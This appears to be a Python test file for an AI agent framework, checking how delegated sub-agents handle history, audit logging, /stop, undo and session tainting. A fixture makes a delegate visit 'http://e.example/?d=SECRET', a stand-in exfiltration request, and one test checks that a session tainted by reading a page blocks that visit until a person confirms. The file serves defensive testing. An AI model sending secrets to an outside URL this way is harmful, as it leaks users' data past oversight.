"""Delegates of a chat's turn: its sandbox, its history, its audit log, its undo and its `/stop`."""

import json
from pathlib import Path

import trio
from trio.testing import MockClock

from rumi.agent.events import ToolStarted
from rumi.agent.tools.delegate import INSTRUCTIONS
from rumi.models.model import Emit, Message, ModelRequest, Reply, ToolCall
from rumi.store.journal.inbox import load_chat
from tests.agent.test_turn import Echo
from tests.chats.house import House, InlineOffload, house, reply_to
from tests.chats.test_confirmations import Page, Visit
from tests.chats.test_what_ran import tool_calls
from tests.chats.undoing import FolderSandboxes


def call(name: str, id: str = "c", **arguments: object) -> ToolCall:
    return ToolCall(id, name, json.dumps(arguments))


async def works(request: ModelRequest, emit: Emit) -> Reply:
    """Delegates each of its user's words; a delegate does its word and says so."""
    await trio.lowlevel.checkpoint()
    last = max(index for index, message in enumerate(request.messages) if message.role == "user")
    words, done = request.messages[last].content, request.messages[-1].role == "tool"
    if INSTRUCTIONS not in request.messages[0].content:
        kind, *goals = words.split(" ; ")
        calls = [call("delegate", f"d{n}", goal=goal, tools=kind) for n, goal in enumerate(goals)]
        return Reply("all done") if done or not goals else Reply("", tuple(calls))
    tool, _, value = words.partition(" ")
    if tool == "leak":
        tool, value = "visit", "http://e.example/?d=SECRET"
    given = {"command": value} if tool == "bash" else {"url": value}
    return Reply(f"did {words}") if done else Reply("", (call(tool, **given),))


async def history(home: House) -> list[Message]:
    loaded = await home.services.journal.ask(load_chat("cli", 100))
    return [entry.message for entry in loaded.history]


async def test_the_history_has_the_result_and_the_audit_log_each_call(
    tmp_path: Path, autojump_clock: MockClock
) -> None:
    async with house(tmp_path, works) as home:
        assert await home.ask("all ; bash echo one ; bash date") == "all done"
        kept = await history(home)
    assert [message.content for message in kept if message.role == "tool"] == [
        "did bash echo one",
        "did bash date",
    ]
    assert [message.role for message in kept if message.role != "system"] == [
        "user",
        "assistant",
        "tool",
        "tool",
        "assistant",
    ]
    assert tool_calls(tmp_path) == [
        ("command", "bash", ["echo", "one"]),
        ("tool", "delegate", None),
        ("command", "bash", ["date"]),
        ("tool", "delegate", None),
    ]


async def test_what_a_delegate_has_read_taints_the_session(tmp_path: Path, autojump_clock: MockClock) -> None:
    visit = Visit()
    async with house(tmp_path, works, tools_for=lambda view: (Page(), visit)) as home:
        await home.ask("all ; leak")
        assert len(visit.went) == 1
        await home.ask("all ; page")
        await home.ask("all ; leak")
    assert len(visit.went) == 1, "nobody has said yes"


async def test_a_stop_ends_three_readers_and_the_next_turn_works(
    tmp_path: Path, autojump_clock: MockClock
) -> None:
    slow = Echo(concurrent=True, seconds=1000, name="slow")
    async with house(tmp_path, works, tools_for=lambda view: (slow,)) as home:
        with home.services.hub.listening("cli") as events:
            await home.inbox.accept("cli", "reading ; slow 1 ; slow 2 ; slow 3")
            started = 0
            with trio.fail_after(100):
                while started < 6:
                    started += isinstance((await events.receive()).what, ToolStarted)
            assert slow.inside == 3
            assert await reply_to(events, await home.inbox.accept("cli", "/stop")) == "⏹ Stopped."
        assert slow.inside == 0
        assert not home.services.hub.turn("cli").calls
        assert await home.ask("all ; bash date") == "all done"


async def test_an_undo_takes_back_what_a_delegate_changed(tmp_path: Path, autojump_clock: MockClock) -> None:
    file = tmp_path / "workspace" / "cli" / "file"
    sandboxes = FolderSandboxes(tmp_path / "workspace")
    async with house(tmp_path, works, sandboxes=sandboxes, offload=InlineOffload()) as home:
        await home.ask("all ; bash echo one > file")
        await home.ask("all ; bash echo two > file")
        assert file.read_text() == "two\n"
        assert "↩️" in await home.ask("/undo")
        assert file.read_text() == "one\n"
